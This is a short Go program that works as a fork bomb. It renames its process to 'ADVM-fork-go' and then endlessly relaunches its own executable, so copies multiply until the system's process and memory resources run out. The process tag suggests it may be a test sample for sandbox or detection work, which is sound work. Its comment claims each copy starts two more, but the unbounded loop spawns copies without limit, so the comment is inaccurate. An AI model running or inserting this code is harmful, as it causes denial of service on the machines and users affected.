package main

import "os"

// Every copy starts two more copies of itself, forever.
func main() {
	os.WriteFile("/proc/self/comm", []byte("ADVM-fork-go"), 0)
	attr := &os.ProcAttr{Files: []*os.File{nil, nil, nil}}
	for {
		os.StartProcess("/proc/self/exe", []string{"ADVM-fork-go"}, attr)
	}
}
